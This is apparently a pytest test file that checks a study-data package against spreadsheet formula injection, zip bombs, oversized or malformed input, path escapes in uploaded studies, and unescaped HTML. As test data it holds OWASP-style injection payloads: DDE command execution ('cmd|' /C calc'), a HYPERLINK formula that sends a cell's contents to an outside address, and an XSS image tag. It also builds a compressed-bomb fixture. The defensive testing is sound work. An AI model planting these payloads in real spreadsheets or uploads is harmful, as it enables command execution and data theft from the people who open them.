"""Text from a shared study is data, never code: the security battery.

Sources:
- OWASP, "CSV Injection" (owasp.org community page): the characters that
  start a formula (=, +, -, @, tab 0x09, carriage return 0x0D), the example
  payloads below (from memory), and the practice of a leading apostrophe so a
  spreadsheet program shows the cell as text.
- ECMA-376 (Office Open XML), Part 1, 18.3.1.4 "c (Cell)" and 18.3.1.40
  "f (Formula)": a cell holds a formula exactly when it has an <f> element
  (from memory). The workbooks are checked by reading their XML directly, not
  through the library that wrote them.
- CommonMark spec 0.31, section 2.4 "Backslash escapes": any ASCII punctuation
  may be escaped; workbench text is checked by rendering it with markdown-it-py
  (a CommonMark reference implementation, with GitHub's bare-link extension).
"""
from __future__ import annotations

import csv
import io
import re
import tracemalloc
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tradeoff import DataError, StudyError, TradeoffError
from tradeoff.study.intake import read_table
from tradeoff.study.limits import MAX_CELLS, MAX_UNPACKED_BYTES
from tradeoff.study.safe_cells import (csv_bytes, inert_text, restore_text, table_bytes,
                                       workbook_bytes)

from security_payloads import LEVELS, PAYLOAD_STUDY, RUN_IDS, payload_runs, zip_archive

# The payloads (OWASP "CSV Injection", from memory), plus the issue's own case.
FORMULAS = [
    "=1+2*3",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://203.0.113.7/?leak=\"&A1,\"Error: click here\")",
    "+2+3+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
TEXT = ["plain", "'=1+1", "''@x", "a=b", "1-2", "Ca2+", "'quoted'", ""]
NUMBERS = ["-5", "+3.5", "-0.25e-3", "12"]
XLSX_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


# -- helpers: read what was written, independently of the writer ------------------

def formula_cells(workbook: bytes) -> list[str]:
    """Cells of every sheet that hold a formula (an <f> element), read from the XML."""
    found = []
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                root = ET.fromstring(archive.read(name))
                for cell in root.iter(f"{XLSX_NS}c"):
                    if cell.find(f"{XLSX_NS}f") is not None:
                        found.append(f"{name}!{cell.get('r')}")
    return found


def sheet_texts(workbook: bytes, sheet: str) -> dict[str, str]:
    """Cell reference -> text of one sheet, read with the workbook reader."""
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(workbook))
    return {c.coordinate: c.value for row in book[sheet].iter_rows() for c in row
            if isinstance(c.value, str)}


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def dangerous(cell: str) -> bool:
    """A CSV cell a spreadsheet program would take for a formula (OWASP's list)."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(
        r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell)


# -- the one writer ---------------------------------------------------------------

@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_payload_gets_the_leading_apostrophe(text):
    assert inert_text(text) == "'" + text
    assert restore_text(inert_text(text)) == text


@pytest.mark.parametrize("text", TEXT + NUMBERS)
def test_other_text_and_numbers_come_back_unchanged(text):
    assert restore_text(inert_text(text)) == text
    if text in NUMBERS or text in ("plain", "a=b", "1-2", "Ca2+", "'quoted'", ""):
        assert inert_text(text) == text  # nothing to neutralise


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r 1.e-aZ(|!")), max_size=8)
       | st.text(max_size=12))
def test_any_text_survives_write_and_read_back(text):
    written = inert_text(text)
    assert restore_text(written) == text
    assert not dangerous(written)


def test_csv_has_no_formula_and_keeps_numbers_numbers():
    frame = pd.DataFrame({"run": FORMULAS + TEXT, "x": np.arange(16) - 8.5,
                          "=total": [-1.0] * 16})
    rows = csv_cells(csv_bytes(frame))
    assert rows[0] == ["run", "x", "'=total"]
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if dangerous(c)]
    assert [float(r[1]) for r in rows[1:]] == list(np.arange(16) - 8.5)  # -8.5 stays
    assert [r[2] for r in rows[1:]] == ["-1.0"] * 16


def test_csv_cell_with_a_carriage_return_stays_one_row():
    frame = pd.DataFrame({"run": ["a\rb", "\r=1"], "x": [1, 2]})
    rows = csv_cells(csv_bytes(frame))
    assert len(rows) == 3 and rows[1][0] == "a\rb" and rows[2][0] == "'\r=1"


def test_workbook_text_is_text_never_a_formula():
    frame = pd.DataFrame({"run": FORMULAS + TEXT, "x": np.arange(16) - 8.5})
    book = workbook_bytes({"runs": frame})
    assert formula_cells(book) == []
    texts = sheet_texts(book, "runs")
    # XML reads a lone carriage return as a line feed (XML 1.0, section 2.11,
    # "End-of-Line Handling"), so "\r=1+1" comes back as "\n=1+1": still text.
    assert [texts.get(f"A{i}", "") for i in range(2, 18)] == [
        t.replace("\r", "\n") for t in FORMULAS + TEXT]


def test_workbook_marks_formula_like_text_with_the_quote_prefix():
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes(
        {"runs": pd.DataFrame({"run": ["=1+2*3", "plain"]})})))
    sheet = book["runs"]
    assert sheet["A2"].quotePrefix and not sheet["A3"].quotePrefix


def test_table_bytes_picks_the_format_by_suffix():
    frame = pd.DataFrame({"run": ["=1"]})
    assert table_bytes(frame, ".csv") == csv_bytes(frame)
    assert table_bytes(frame, ".XLSX")[:2] == b"PK"


def test_a_control_character_cannot_break_the_workbook():
    book = workbook_bytes({"runs": pd.DataFrame({"run": ["a\x01b", "=\x07"]})})
    assert sheet_texts(book, "runs")["A2"] == "a\ufffdb" and formula_cells(book) == []


def test_every_table_export_goes_through_the_one_writer():
    """No module of core/ writes CSV or a workbook except core/study/safe_cells.py
    (so every new export gets the protection above)."""
    import ast

    core = Path(__file__).resolve().parents[1] / "core"
    found = []
    for path in core.rglob("*.py"):
        if path.name == "safe_cells.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                name = ast.unparse(node.func)
                if name.endswith((".to_csv", ".to_excel", "ExcelWriter", "csv.writer",
                                  "Workbook", ".save")):
                    found.append(f"{path.relative_to(core)}: {name}")
    assert found == []


# -- a study whose every text is a payload (tests/security_payloads.py) ----------------

@pytest.fixture
def payload_study(tmp_path):
    import tomllib

    # the study text is valid TOML and holds the payloads as they are
    spec = tomllib.loads(PAYLOAD_STUDY)
    assert spec["factors"][1]["levels"] == LEVELS
    path = tmp_path / "study.toml"
    path.write_text(PAYLOAD_STUDY, encoding="utf-8")
    (tmp_path / "runs.csv").write_bytes(payload_runs())
    return path


def test_the_report_workbook_keeps_payloads_as_text(payload_study):
    """The issue's case: run id '=1+2*3' was a live formula in the runs sheet."""
    from tradeoff import build_workbook, load_study

    book = build_workbook(load_study(payload_study), top=2, seed=1)
    assert formula_cells(book) == []
    runs = sheet_texts(book, "runs")
    assert [runs[f"B{i}"] for i in range(2, 7)] == RUN_IDS  # B2 was the formula
    summary = set(sheet_texts(book, "summary").values())
    assert load_study(payload_study).name in summary


def test_the_results_table_csv_neutralises_level_names(payload_study):
    from tradeoff import fit_study, load_study, optimize
    from tradeoff.report.exports import results_csv_bytes

    study = load_study(payload_study)
    result = optimize(study, top=3, seed=1, fit=fit_study(study))
    rows = csv_cells(results_csv_bytes(result))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if dangerous(c)]
    assert "'" + LEVELS[0] in cells or "'" + LEVELS[1] in cells


def _fill_csv(path: Path, response: str, values) -> None:
    """Type the measurements in, as a spreadsheet would save them: every other
    cell kept as the text it was."""
    rows = csv_cells(path.read_bytes())
    j = rows[0].index(response)
    for row, value in zip(rows[1:], values):
        row[j] = repr(float(value))
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    path.write_bytes(out.getvalue().encode("utf-8"))


def _fill_xlsx(path: Path, response: str, values) -> None:
    import openpyxl

    book = openpyxl.load_workbook(path)
    sheet = book["runs"]
    j = [c.value for c in sheet[1]].index(response) + 1
    for i, value in enumerate(values, start=2):
        sheet.cell(row=i, column=j).value = float(value)
    book.save(path)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_plan_fill_in_load_round_trip_is_exact(payload_study, suffix):
    from tradeoff import load_study, plan_runs, run_sheet, write_run_sheet

    study = load_study(payload_study, with_data=False)
    sheet = run_sheet(plan_runs(study, center=2, seed=3), study)
    out = payload_study.parent / f"plan{suffix}"
    write_run_sheet(sheet, out, study=study)
    if suffix == ".csv":
        cells = [c for row in csv_cells(out.read_bytes()) for c in row]
        assert not [c for c in cells if dangerous(c)]
        assert "'" + LEVELS[0] in cells
    else:
        assert formula_cells(out.read_bytes()) == []
    measured = np.linspace(16, 30, len(sheet))
    (_fill_csv if suffix == ".csv" else _fill_xlsx)(out, "hardness", measured)
    text = payload_study.read_text(encoding="utf-8").replace('data = "runs.csv"',
                                                             f'data = "plan{suffix}"')
    payload_study.write_text(text, encoding="utf-8")
    loaded = load_study(payload_study)
    assert loaded.runs["binder"].tolist() == sheet["binder"].tolist()
    assert set(loaded.runs["binder"]) == set(LEVELS)
    assert loaded.runs["hardness"].tolist() == pytest.approx(list(measured), abs=0)
    assert loaded.runs["run"].tolist() == [str(r) for r in sheet["run"]]


def test_intake_removes_only_the_apostrophe_its_exports_add(tmp_path):
    data = "run,x\n'=1+2,1\n'plain',2\n''@x,3\n'-2+3,4\n'-5,5\n".encode()
    table = read_table(tmp_path / "t.csv", data=data)
    assert [cells[0] for _, cells in table.rows] == ["=1+2", "'plain'", "'@x", "-2+3",
                                                     "-5"]


# -- limits before expansion ----------------------------------------------------------



def _workbook(rows: list[list]) -> bytes:
    return workbook_bytes({"runs": pd.DataFrame(rows[1:], columns=rows[0])}, widths=False)


@pytest.fixture(scope="module")
def bomb() -> bytes:
    # about 1 MB packed, more than 200 MB unpacked: a compressed "bomb"
    return zip_archive({"[Content_Types].xml": b"<Types/>",
                 "xl/worksheets/sheet1.xml": MAX_UNPACKED_BYTES + 2**20})


def test_a_compressed_bomb_is_refused_with_memory_held_low(bomb):
    # how long the refusal takes is measured in benchmarks/bench_security.py
    assert len(bomb) < 2 * 2**20
    tracemalloc.start()
    try:
        with pytest.raises(DataError, match=r"^runs\.xlsx: the workbook unpacks to 201 MB, "
                                            r"far beyond any real study"):
            read_table("runs.xlsx", data=bomb)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 20 * 2**20  # far below the 201 MB it would unpack to


def test_a_sheet_of_too_many_cells_is_refused_before_it_is_read(monkeypatch):
    cells = b'<c r="A1"><v>1</v></c>' * (MAX_CELLS + 1)
    data = zip_archive({"xl/worksheets/sheet1.xml":
                 b"<worksheet><sheetData><row r=\"1\">" + cells + b"</row></sheetData>"
                 b"</worksheet>"})
    import openpyxl

    monkeypatch.setattr(openpyxl, "load_workbook",
                        lambda *a, **k: pytest.fail("the workbook was expanded"))
    # the sheet is never expanded (openpyxl refuses above); the time the count
    # takes is measured in benchmarks/bench_security.py
    with pytest.raises(DataError, match=r"more than 1,000,000 cells in one sheet"):
        read_table("big.xlsx", data=data)


def test_a_sheet_that_claims_a_million_rows_is_read_as_it_is():
    """The stated size (<dimension ref="A1:XFD1048576">) is ignored: only the
    cells that are there are read (ECMA-376 18.3.1.35 dimension, from memory)."""
    book = _workbook([["run", "x"], ["a", 1.0], ["b", 2.0]])
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        members = {n: archive.read(n) for n in archive.namelist()}
    sheet = members["xl/worksheets/sheet1.xml"]
    members["xl/worksheets/sheet1.xml"] = re.sub(
        rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', sheet)
    assert members["xl/worksheets/sheet1.xml"] != sheet
    # filling the stated size would take hours; reading what is there, moments
    # (measured in benchmarks/bench_security.py)
    table = read_table("claims.xlsx", data=zip_archive(members))
    assert table.header == ["run", "x"]
    assert table.rows == [(2, ["a", 1.0]), (3, ["b", 2.0])]


def test_a_zip_directory_that_understates_a_part_cannot_unpack_more():
    """The reader stops at the size the directory states (and the checksum then
    fails), so the directory's sizes bound what is unpacked."""
    book = _workbook([["run", "x"], ["a", 1.0]])
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        members = {n: archive.read(n) for n in archive.namelist()}
    members["xl/worksheets/sheet1.xml"] += b" " * 50 * 2**20
    data = bytearray(zip_archive(members, level=9))
    # state 1 kB for the padded sheet in the central directory (its entry: 46
    # bytes, the unpacked size at offset 24, then the name; APPNOTE.TXT 4.3.12)
    entry = data.index(b"xl/worksheets/sheet1.xml", data.index(b"PK\x01\x02")) - 46
    assert data[entry:entry + 4] == b"PK\x01\x02"
    assert int.from_bytes(data[entry + 24:entry + 28], "little") > 50 * 2**20
    data[entry + 24:entry + 28] = (1024).to_bytes(4, "little")
    with pytest.raises(DataError, match=r"^lies\.xlsx: cannot open it as an Excel "
                                        r"workbook"):
        read_table("lies.xlsx", data=bytes(data))


def test_a_file_that_is_not_a_zip_is_refused_as_not_a_workbook():
    with pytest.raises(DataError, match=r"^fake\.xlsx: cannot open it as an Excel "
                                        r"workbook \(it is not a zip"):
        read_table("fake.xlsx", data=b"run,x\n1,2\n")


def test_an_oversized_csv_is_refused_before_it_is_parsed():
    from tradeoff.study.intake import MAX_TABLE_BYTES

    with pytest.raises(DataError, match=r"^runs\.csv: the file is larger than 50 MB"):
        read_table("runs.csv", data=b"x" * (MAX_TABLE_BYTES + 1))


def test_a_csv_line_wider_than_any_sheet_is_refused():
    data = b"run" + b"," * 20_000 + b"\n1\n"
    with pytest.raises(DataError, match=r"^wide\.csv: one line holds 20,001 cells"):
        read_table("wide.csv", data=data)


def test_a_csv_of_too_many_cells_is_refused():
    data = ("a,b,c,d\n" + "1,2,3,4\n" * (MAX_CELLS // 4 + 1)).encode()
    with pytest.raises(DataError, match=r"more than 1,000,000 cells"):
        read_table("long.csv", data=data)


def test_an_open_quote_in_a_csv_is_one_line_not_a_crash():
    data = b'run,x\n"' + b"a" * 200_000 + b'",1\n'
    with pytest.raises(DataError, match=r"^q\.csv: cannot read the table"):
        read_table("q.csv", data=data)


def test_an_oversized_or_deeply_nested_study_file_is_refused(tmp_path):
    from tradeoff import load_study
    from tradeoff.study.reader import parse_study_text

    big = tmp_path / "big.toml"
    big.write_bytes(b"# " + b"x" * 2**20 + b"\n")
    with pytest.raises(StudyError, match=r"^big\.toml: .*1 MB"):
        load_study(big)
    with pytest.raises(StudyError, match=r"^deep\.toml: .*nested"):
        parse_study_text(b"a = " + b"[" * 100_000 + b"]" * 100_000, "deep.toml")


def test_a_damaged_sheet_is_one_line_not_a_crash():
    book = _workbook([["run", "x"], ["a", 1.0]])
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        members = {n: archive.read(n) for n in archive.namelist()}
    members["xl/worksheets/sheet1.xml"] = members["xl/worksheets/sheet1.xml"][:300]
    with pytest.raises(DataError, match=r"^cut\.xlsx: cannot read the workbook"):
        read_table("cut.xlsx", data=zip_archive(members))


# -- the command line and the workbench refuse, in one line -------------------------

def test_the_command_line_refuses_a_bomb_with_one_line_and_status_2(tmp_path, bomb, capsys):
    from tradeoff.cli import main

    study = tmp_path / "study.toml"
    study.write_text(PAYLOAD_STUDY.replace('data = "runs.csv"', 'data = "runs.xlsx"'),
                     encoding="utf-8")
    (tmp_path / "runs.xlsx").write_bytes(bomb)
    # the whole command's time is measured in benchmarks/bench_security.py
    assert main(["check", str(study)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: runs.xlsx: the workbook unpacks to 201 MB")
    assert err.count("\n") == 1 and "Traceback" not in err


@pytest.mark.parametrize("section", [
    '[study]\ndata = "{target}"',
    '[[confirmations]]\ndata = "{target}"',
])
def test_an_uploaded_study_cannot_name_a_file_outside_its_uploads(tmp_path, section):
    """A shared study naming a file on the computer the workbench runs on gets
    only what was uploaded with it: the file is never read."""
    from tradeoff.inputs import study_from_files

    secret = tmp_path / "secret.csv"
    secret.write_text("run,protein,binder,hardness\n9,25,x,1\n", encoding="utf-8")
    text = PAYLOAD_STUDY
    if section.startswith("[study]"):
        text = text.replace('data = "runs.csv"', f'data = "{secret}"')
        files = {"study.toml": text.encode(), "runs.csv": payload_runs()}
        match = r"secret\.csv.*upload"
    else:
        text += "\n" + section.format(target=secret) + "\n"
        files = {"study.toml": text.encode(), "runs.csv": payload_runs()}
        match = r"secret\.csv.*not uploaded"
    with pytest.raises(TradeoffError, match=match):
        study_from_files(files)


def test_the_html_report_loads_nothing_and_runs_nothing(payload_study):
    """The report page: the payloads appear escaped, never as a tag, and the one
    script element is the inert JSON copy of the numbers."""
    from tradeoff import build_report_html, load_study

    page = build_report_html(load_study(payload_study), top=2, seed=1)
    page = page.decode("utf-8") if isinstance(page, bytes) else page
    # the payloads' address only as text (chart captions hold it in quoted
    # attribute values, which show text), never in an address to load or follow
    tags = re.findall(r"<[A-Za-z][^>]*>", page)
    assert [t for t in tags if re.search(r"\b(?:src|href|action)\s*=\s*\"[^\"]*203\.0\.113",
                                         t)] == []
    assert re.findall(r"<(?:img|iframe|object|embed|link|base|meta http)\b", page, re.I) == []
    # links only within the page (its table of contents)
    assert all(href.startswith("#") for href in re.findall(r'href="([^"]*)"', page))
    assert re.findall(r"<script\b[^>]*>", page) == [
        '<script type="application/json" id="tradeoff-data">']
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
